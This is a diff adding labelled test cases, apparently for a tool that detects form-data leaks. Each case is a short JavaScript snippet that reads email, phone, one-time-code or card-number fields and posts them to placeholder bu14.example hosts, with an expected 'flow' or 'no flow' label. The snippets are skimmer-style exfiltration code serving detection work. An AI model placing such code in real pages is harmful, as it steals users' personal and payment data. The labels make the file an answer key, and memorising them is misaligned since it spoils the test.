@@ -589,3 +589,75 @@ fetch('https://pwj.bu14.example/s', { method: 'POST', body: JSON.stringify(shown
 const raw84 = { pan: document.querySelector('input[autocomplete=cc-number]').value, step: 'pay' };
 const shown84 = new Proxy(raw84, { get: (t, k) => (k === 'cvc' ? undefined : t[k]) });
 fetch('https://pwo.bu14.example/s', { method: 'POST', body: JSON.stringify(shown84) });
+
+//# empty-text-alone-is-sent
+// no flow
+const eta85 = document.querySelector('input[type=email]').value;
+if (eta85 === '') navigator.sendBeacon('https://eta.bu14.example/none', 'mail=' + eta85);
+
+//# text-asked-for-again-when-empty
+// flow: email > taa.bu14.example via beacon
+let taa86 = document.querySelector('input[type=email]').value;
+if (!taa86) {
+  taa86 = document.querySelector('input[name=email2]').value;
+  navigator.sendBeacon('https://taa.bu14.example/m', taa86);
+}
+
+//# list-empty-then-nothing
+// no flow
+function len87() {
+  const phone = document.querySelector('input[type=tel]').value;
+  return phone.length ? document.title = phone : fetch('https://len.bu14.example/?p=' + phone);
+}
+len87();
+
+//# either-of-two-is-empty
+// flow: phone > eoe.bu14.example via fetch
+// why: where one of both is missing the other is sent
+const mail88 = document.querySelector('#shop-code').dataset.code;
+const phone88 = document.querySelector('input[type=tel]').value;
+if (!mail88 || !phone88) fetch('https://eoe.bu14.example/?p=' + phone88);
+
+//# form-of-page-reset-before-reading
+// no flow
+const lead89 = document.querySelector('form#lead');
+lead89.reset();
+fetch('https://fpr.bu14.example/f', { method: 'POST', body: new FormData(lead89) });
+
+//# other-form-reset-before-reading
+// flow: input > ofr.bu14.example via fetch
+const lead90 = document.querySelector('form#lead');
+document.querySelector('form#search').reset();
+fetch('https://ofr.bu14.example/f', { method: 'POST', body: new FormData(lead90) });
+
+//# names-wiped-in-loop
+// no flow
+const nwl91 = { step: 2, pin: document.querySelector('input[autocomplete=one-time-code]').value };
+for (const key of Object.keys(nwl91)) {
+  if (['pin', 'token'].includes(key)) delete nwl91[key];
+}
+fetch('https://nwl.bu14.example/s', { method: 'POST', body: JSON.stringify(nwl91) });
+
+//# other-names-wiped-in-loop
+// flow: otp > onw.bu14.example via fetch
+const onw92 = { step: 2, pin: document.querySelector('input[autocomplete=one-time-code]').value };
+for (const key of Object.keys(onw92)) {
+  if (['card', 'token'].includes(key)) delete onw92[key];
+}
+fetch('https://onw.bu14.example/s', { method: 'POST', body: JSON.stringify(onw92) });
+
+//# names-wiped-in-loop-sometimes
+// flow: otp > nws.bu14.example via fetch
+const nws93 = { step: 2, pin: document.querySelector('input[autocomplete=one-time-code]').value };
+for (const key in nws93) if (key === 'pin' && window.privateMode) nws93[key] = '';
+fetch('https://nws.bu14.example/s', { method: 'POST', body: JSON.stringify(nws93) });
+
+//# slice-of-the-end
+// no flow
+const soe94 = [document.querySelector('input[type=email]').value, 'a', 'b'];
+navigator.sendBeacon('https://sot.bu14.example/l', soe94.slice(1).join());
+
+//# slice-of-the-end-with-it
+// flow: email > sow.bu14.example via beacon
+const sow95 = ['a', 'b', document.querySelector('input[type=email]').value];
+navigator.sendBeacon('https://sow.bu14.example/l', sow95.slice(-1).join());
